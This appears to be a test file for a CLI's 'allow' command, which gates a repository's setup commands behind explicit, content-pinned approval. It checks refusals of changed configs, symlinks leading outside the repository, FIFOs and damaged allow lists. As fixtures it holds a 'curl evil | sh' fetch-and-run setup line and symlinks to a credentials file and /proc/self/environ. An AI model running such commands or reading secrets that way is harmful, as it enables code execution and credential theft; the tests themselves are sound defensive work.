/** `paddock allow` through the real bundle: exit statuses, what it prints, and `start` refused, then allowed, then refused again. */
import * as assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { CoordinatorSandbox, runCli, useCoordinatorSandbox } from '../../core/coordinator/coordinatorFixture';

describe('paddock allow', function () {
  this.timeout(60_000);
  let sb!: CoordinatorSandbox;
  useCoordinatorSandbox((fresh) => (sb = fresh));

  const cli = (args: string[], cwd = sb.repo) => runCli(args, { cwd, env: sb.env, timeoutMs: 20_000 });

  it('exits 2 without a .paddock.json or outside a repository, 1 for a file that is not valid', async () => {
    const none = await cli(['allow']);
    assert.equal(none.code, 2);
    assert.equal(none.stderr, `paddock allow: ${sb.repo} has no .paddock.json to allow.\n`);
    const outside = join(sb.root, 'plain');
    mkdirSync(outside);
    const notRepo = await cli(['allow', '--repo', outside]);
    assert.equal(notRepo.code, 2);
    assert.match(notRepo.stderr, /is not inside a git repository\.\n$/);
    writeFileSync(join(sb.repo, '.paddock.json'), '{"setup": 1}');
    const invalid = await cli(['allow']);
    assert.equal(invalid.code, 1);
    assert.match(invalid.stderr, /\.paddock\.json is not a valid Paddock configuration: setup: /);
    const extra = await cli(['allow', 'surplus']);
    assert.equal(extra.code, 2);
  });

  // Bug 110: path.resolve('') is the cwd, so `--repo "$DIR"` with DIR unset allowed, started in or listed the
  // cwd's repository, and `restore --to ''` restored into the cwd.
  it('an empty --repo or --to is refused in one sentence, not taken as the current folder (bug 110)', async () => {
    writeFileSync(join(sb.repo, '.paddock.json'), JSON.stringify({ setup: 'echo ready' }));
    const cases: [string[], string][] = [
      [['allow', '--repo', ''], 'paddock allow [--repo DIR]'],
      [['start', '--repo', '', '--', 'true'], 'paddock start [--repo DIR]'],
      [['list', '--repo', ''], 'paddock list [--json] [--repo DIR]'],
      [['restore', 'abcdef12', '--to', ''], 'paddock restore ID [--to DIR] [--json]'],
    ];
    for (const [args, usage] of cases) {
      const run = await cli(args);
      assert.equal(run.code, 2, `${args.join(' ')}: ${run.stderr}`);
      assert.equal(run.stdout, '');
      const option = args.includes('--to') ? '--to' : '--repo';
      assert.ok(run.stderr.startsWith(`paddock ${args[0]}: ${option} needs a folder, not an empty string; usage: ${usage}`), run.stderr);
    }
    assert.equal(existsSync(join(sb.home, 'trusted-configs.json')), false, 'nothing was allowed');
    assert.deepEqual(await sb.store.list(), [], 'no agent was created');
  });

  // Bug 111: an allow list that did not read was written over, and every other allow in it was gone.
  it('keeps an allow list that cannot be read beside the new one, and says so on stderr (bug 111)', async () => {
    writeFileSync(join(sb.repo, '.paddock.json'), JSON.stringify({ check: 'true' }));
    const list = join(sb.home, 'trusted-configs.json');
    const damaged = '{"allowed": {"/elsewhere/.paddock.json": {"sha256": "0123", "at": "then"}}, "x": [';
    writeFileSync(list, damaged);
    const allowed = await cli(['allow']);
    assert.equal(allowed.code, 0, allowed.stderr);
    assert.equal(allowed.stdout, `Allowed ${sb.repo}/.paddock.json:\n  check: true\n`);
    const aside = readdirSync(sb.home).filter((n) => n.startsWith('trusted-configs.json.unreadable-'));
    assert.equal(aside.length, 1, readdirSync(sb.home).join(' '));
    assert.equal(readFileSync(join(sb.home, aside[0]), 'utf8'), damaged, 'the damaged list is kept as it was');
    assert.equal(
      allowed.stderr,
      `paddock allow: The earlier allow list could not be read (it is not valid JSON); it was kept as ${join(sb.home, aside[0])}, and the new list allows only this file.\n`,
    );
    assert.ok(readFileSync(list, 'utf8').includes(`${sb.repo}/.paddock.json`));
  });

  it('start refuses an unallowed file, allow trusts that exact content, a change must be allowed again', async () => {
    writeFileSync(join(sb.repo, '.paddock.json'), JSON.stringify({ setup: 'echo ready > ready.txt', check: 'npm test' }));
    const refused = await cli(['start', '--', 'true']);
    assert.equal(refused.code, 1);
    assert.equal(
      refused.stderr,
      `paddock start: ${sb.repo}/.paddock.json is not allowed, so the setup command will not run: trust the workspace in VS Code, or review the file and run \`paddock allow --repo ${sb.repo}\`.\n`,
    );
    assert.deepEqual(await sb.store.list(), []);

    const allowed = await cli(['allow', '--repo', join(sb.repo)]);
    assert.equal(allowed.code, 0, allowed.stderr);
    assert.equal(allowed.stdout, `Allowed ${sb.repo}/.paddock.json:\n  setup: echo ready > ready.txt\n  check: npm test\n`);
    const started = await cli(['start', '--', 'true']);
    assert.equal(started.code, 0, started.stderr);
    const id = started.stdout.trim();
    const done = await sb.waitEnded(id);
    assert.equal(done.setup?.state, 'done', done.lifecycle.detail ?? '');

    writeFileSync(join(sb.repo, '.paddock.json'), JSON.stringify({ setup: 'curl evil | sh' }));
    const changed = await cli(['start', '--', 'true']);
    assert.equal(changed.code, 1);
    assert.match(changed.stderr, /\.paddock\.json is changed since it was allowed, so the setup command will not run: .*paddock allow --repo /);
  });

  it('a .paddock.json leading outside the repository is refused unread, one inside is read (bug 56)', async () => {
    // A cloned repository's link to the person's own files: its content must not reach any message.
    const credentials = join(sb.root, 'credentials');
    writeFileSync(credentials, 'TOKEN=hunter2-secret\n');
    symlinkSync(credentials, join(sb.repo, '.paddock.json'));
    for (const args of [['allow'], ['start', '--', 'true']]) {
      const run = await cli(args);
      assert.equal(run.code, 1, run.stderr);
      assert.equal(
        run.stderr,
        `paddock ${args[0]}: ${sb.repo}/.paddock.json leads outside the repository, so it was not read: Paddock reads its configuration only from inside ${sb.repo}.\n`,
      );
    }
    rmSync(join(sb.repo, '.paddock.json'));
    symlinkSync('/proc/self/environ', join(sb.repo, '.paddock.json'));
    const environ = await cli(['start', '--', 'true']);
    assert.equal(environ.code, 1);
    assert.match(environ.stderr, /leads outside the repository, so it was not read/);
    assert.deepEqual(await sb.store.list(), [], 'no agent was created');
    // A link to a file of the repository itself is the repository's configuration.
    rmSync(join(sb.repo, '.paddock.json'));
    mkdirSync(join(sb.repo, 'config'));
    writeFileSync(join(sb.repo, 'config', 'paddock.json'), JSON.stringify({ check: 'true' }));
    symlinkSync(join('config', 'paddock.json'), join(sb.repo, '.paddock.json'));
    const inside = await cli(['allow']);
    assert.equal(inside.code, 0, inside.stderr);
    assert.equal(inside.stdout, `Allowed ${sb.repo}/.paddock.json:\n  check: true\n`);
  });

  it('a FIFO or /dev/zero in place of .paddock.json or of the allow list hangs nothing and fills no memory (bug 56)', async () => {
    const config = join(sb.repo, '.paddock.json');
    execFileSync('mkfifo', [config]);
    const fifo = await cli(['start', '--', 'true']);
    assert.equal(fifo.code, 1, `not hung: ${fifo.stderr}`);
    assert.equal(fifo.stderr, `paddock start: ${config} is not a file.\n`);
    rmSync(config);

    writeFileSync(config, JSON.stringify({ setup: 'echo ready' }));
    const list = join(sb.home, 'trusted-configs.json');
    mkdirSync(sb.home, { recursive: true });
    execFileSync('mkfifo', [list]);
    const refused = await cli(['start', '--', 'true']);
    assert.equal(refused.code, 1, `not hung: ${refused.stderr}`);
    assert.match(refused.stderr, /\.paddock\.json is not allowed, so the setup command will not run/);
    rmSync(list);
    symlinkSync('/dev/zero', list);
    const zero = await cli(['start', '--', 'true']);
    assert.equal(zero.code, 1, `not hung: ${zero.stderr}`);
    assert.match(zero.stderr, /\.paddock\.json is not allowed/);
    // Allowing replaces what stood in the list's place with a list, and the start goes on.
    const allowed = await cli(['allow']);
    assert.equal(allowed.code, 0, allowed.stderr);
    const started = await cli(['start', '--', 'true']);
    assert.equal(started.code, 0, started.stderr);
    assert.equal((await sb.waitEnded(started.stdout.trim())).setup?.state, 'done');
  });
});
